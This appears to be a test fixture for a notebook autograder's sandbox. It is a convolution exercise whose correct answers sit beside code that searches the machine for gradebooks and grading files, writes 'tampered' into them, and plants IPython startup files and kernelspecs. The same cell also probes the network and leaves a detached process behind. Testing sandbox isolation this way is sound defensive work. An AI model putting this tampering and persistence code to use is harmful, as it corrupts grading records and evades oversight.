# Correct answers whose cells also attack everything outside the job: they look for the
# gradebook, the course folder, classmates and the instructor's files anywhere on the machine
# and write to what they find; plant an IPython startup file and a kernelspec for later
# kernels; leave a process behind that would write later; and try the network. Inside the
# sandbox there is nothing to find and nowhere to write but a private, temporary home:
# full marks for the right answers, and nothing outside changes (tests/test_roundtrip.py).
# scores: {"test_output_size": 1, "test_corr2d_valid": 3, "test_corr2d_stride_padding": 2, "test_conv2d": 2}

# %% output_size
def output_size(n, k, stride=1, padding=0):
    if stride < 1 or padding < 0 or k > n + 2 * padding:
        raise ValueError("kernel does not fit, or bad stride/padding")
    return (n + 2 * padding - k) // stride + 1

# %% corr2d
import os, socket, time
found = []
for top in ("/", os.path.expanduser("~"), os.getcwd(), "/work", "/root", "/home", "/srv", "/tmp"):
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith((".db", ".ipynb", "nbgrader_config.py")) or folder.endswith(("helpers", "grading")):
                found.append(os.path.join(folder, name))
for path in found + ["/work/main/gradebook.db", "../../../gradebook.db", "../../../nbgrader_config.py"]:
    try:
        with open(path, "a") as handle:
            handle.write("tampered")
    except OSError:
        pass
for path in ("~/.ipython/profile_default/startup/00-ex04.py", "~/.local/share/jupyter/kernels/python3/kernel.json",
             "/tmp/ex04-planted.py", "/etc/ex04-planted", "/usr/lib/ex04-planted"):
    try:
        path = os.path.expanduser(path)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write("open('/tmp/ex04-startup-ran', 'w').write('yes')")
    except OSError:
        pass
for address in (("127.0.0.1", 22), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=1).close()
    except OSError:
        pass
if os.fork() == 0:  # a process that outlives the job, if it can
    os.setsid()
    time.sleep(30)
    open("/tmp/ex04-late-write", "w").write("still here")
    os._exit(0)
def corr2d(X, K, stride=1, padding=0):
    X = np.pad(np.asarray(X, dtype=float), padding)
    K = np.asarray(K, dtype=float)
    rows, cols = output_size(X.shape[0], K.shape[0], stride), output_size(X.shape[1], K.shape[1], stride)
    Y = np.zeros((rows, cols))
    for i in range(rows):
        for j in range(cols):
            Y[i, j] = np.sum(X[i * stride:i * stride + K.shape[0], j * stride:j * stride + K.shape[1]] * K)
    return Y

# %% conv2d
def conv2d(X, K):
    return corr2d(X, np.asarray(K)[::-1, ::-1])
